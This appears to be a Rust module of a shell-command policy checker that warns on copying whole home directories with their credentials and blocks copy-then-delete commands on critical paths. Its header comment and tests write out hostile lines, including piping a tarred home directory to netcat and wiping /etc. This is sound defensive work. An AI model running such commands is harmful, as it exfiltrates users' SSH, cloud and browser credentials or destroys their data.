//! A home copied whole, or the root: `tar czf - ~ | nc HOST 9`, `scp -r ~ host:`, `rsync -a
//! ~/ host:`, `zip -r - ~`. The credentials a home holds (`~/.ssh`, `~/.aws`, a browser's
//! profile) go with it, as they do when `~/.ssh` is named — which is warned — so a copy of
//! a directory that holds homes is warned too. Only programs that read what they copy
//! count; `ls ~`, `du -sh ~`, `chmod 700 ~` read no file.

use super::argv::Cmd;
use super::*;

/// Whether a normalized path is a home, or a directory that holds homes.
fn holds_homes(t: &str) -> bool {
    let t = t.trim_end_matches('/');
    let t = if t.is_empty() { "/" } else { t };
    if matches!(t, "/" | "~" | "/home" | "/root" | "/Users") || home_dir() == Some(t) {
        return true;
    }
    let user_home = |rest: &str| !rest.is_empty() && !rest.contains('/');
    t.strip_prefix("/home/").is_some_and(user_home)
        || t.strip_prefix("/Users/").is_some_and(user_home)
        || t.strip_prefix('~').is_some_and(user_home)
}

/// The words a copying program reads from, or `None` when it is not one (or not copying):
/// `tar` creating an archive (with `-C DIR`), `zip -r`, `7z a`, `cp -r`/`-a`, `rsync` and
/// `scp -r` (all but the destination), `rclone copy`/`sync`, and a recursive `grep`/`rg`,
/// whose matches print what the files hold.
fn sources<'a>(c: &Cmd<'a>) -> Option<Vec<&'a str>> {
    let t = &c.targets;
    let all_but_last = || t[..t.len().saturating_sub(1)].to_vec();
    let short = |l: char| {
        c.flags
            .iter()
            .any(|f| !f.starts_with("--") && f.contains(l))
    };
    let long = |f: &str| c.flags.contains(&f);
    Some(match c.name.as_str() {
        "tar" | "bsdtar" => {
            let cluster = c.args.first().map(String::as_str).unwrap_or_default();
            let creates = short('c')
                || long("--create")
                || (!cluster.starts_with('-') && cluster.contains('c'));
            if !creates {
                return None;
            }
            // Every word after the options, and `-C DIR`'s directory.
            c.args
                .iter()
                .map(String::as_str)
                .filter(|a| !a.starts_with('-'))
                .collect()
        }
        "zip" if short('r') || long("--recurse-paths") => t.iter().skip(1).copied().collect(),
        "7z" | "7za" | "7zr" if t.first() == Some(&"a") => t.iter().skip(2).copied().collect(),
        "cp" if short('r') || short('R') || short('a') || long("--recursive") => all_but_last(),
        "rsync" => all_but_last(),
        "scp" if short('r') => all_but_last(),
        "rclone" if matches!(t.first(), Some(&"copy" | &"sync" | &"copyto")) => {
            t.get(1).copied().into_iter().collect()
        }
        "grep" | "egrep" | "fgrep" if short('r') || short('R') || long("--recursive") => {
            t.iter().skip(1).copied().collect()
        }
        "rg" | "ag" => t.iter().skip(1).copied().collect(),
        _ => return None,
    })
}

/// Whether a copying program is told to delete what it copied: `tar --remove-files`, `zip -m`
/// (`--move`), `7z -sdel`, `rsync --remove-source-files`.
fn deletes_sources(c: &Cmd<'_>) -> bool {
    match c.name.as_str() {
        "tar" | "bsdtar" => c.flags.contains(&"--remove-files"),
        "zip" => {
            c.flags.contains(&"--move")
                || c.flags
                    .iter()
                    .any(|f| !f.starts_with("--") && f.contains('m'))
        }
        "7z" | "7za" | "7zr" => c.flags.contains(&"-sdel"),
        "rsync" => c.flags.contains(&"--remove-source-files"),
        _ => false,
    }
}

pub(super) fn whole_home(c: &Cmd<'_>, out: &mut Vec<Finding>) {
    let Some(sources) = sources(c) else {
        return;
    };
    // Copied, then deleted: `tar -cf x.tar --remove-files ~` is `rm -rf ~` with a copy kept
    // wherever the archive goes.
    if deletes_sources(c) {
        if let Some(dir) = sources.iter().find(|s| is_critical(&normalize(s, c.cwd))) {
            out.push(finding(
                Severity::Block,
                "rm_recursive_critical",
                format!("{} deletes {dir} after copying it", c.name),
                c.argv,
            ));
            return;
        }
        out.push(finding(
            Severity::Warn,
            "recursive_delete",
            format!("{} deletes what it copies", c.name),
            c.argv,
        ));
    }
    if let Some(dir) = sources.iter().find(|s| holds_homes(&normalize(s, c.cwd))) {
        out.push(finding(
            Severity::Warn,
            "secret_read",
            format!(
                "{} reads {dir} whole, and the credentials in it (~/.ssh, ~/.aws, a browser's \
                 profile) with it: name the project's own directory instead",
                c.name
            ),
            c.argv,
        ));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_copy_that_deletes_its_sources_is_a_deletion() {
        let p = crate::Policy::default();
        for (line, expected) in [
            (
                "tar -cf /dev/null --remove-files ~",
                crate::Authorization::Blocked,
            ),
            ("zip -rm /tmp/x.zip ~", crate::Authorization::Blocked),
            ("7z a -sdel x.7z /etc", crate::Authorization::Blocked),
            (
                "rsync -a --remove-source-files ~/ host:/b/",
                crate::Authorization::Blocked,
            ),
            ("rsync -a --delete empty/ ~/", crate::Authorization::Blocked),
            ("srm -r ~", crate::Authorization::Blocked),
            ("wipe -rf /etc", crate::Authorization::Blocked),
            (
                "tar -czf x.tgz --remove-files build",
                crate::Authorization::AllowedWithWarning,
            ),
            (
                "rsync -a --delete src/ dest/",
                crate::Authorization::AllowedWithWarning,
            ),
            ("zip -r x.zip ~/project", crate::Authorization::Allowed),
        ] {
            assert_eq!(
                p.evaluate(line, Some("/work/p")).authorization,
                expected,
                "{line}"
            );
        }
    }

    #[test]
    fn homes_and_what_holds_them() {
        for t in [
            "/",
            "~",
            "/home",
            "/home/alice",
            "/root/",
            "/Users/bob",
            "~alice",
        ] {
            assert!(holds_homes(t), "{t}");
        }
        for t in ["~/src", "/home/alice/project", "/tmp", "/etc", "."] {
            assert!(!holds_homes(t), "{t}");
        }
    }
}
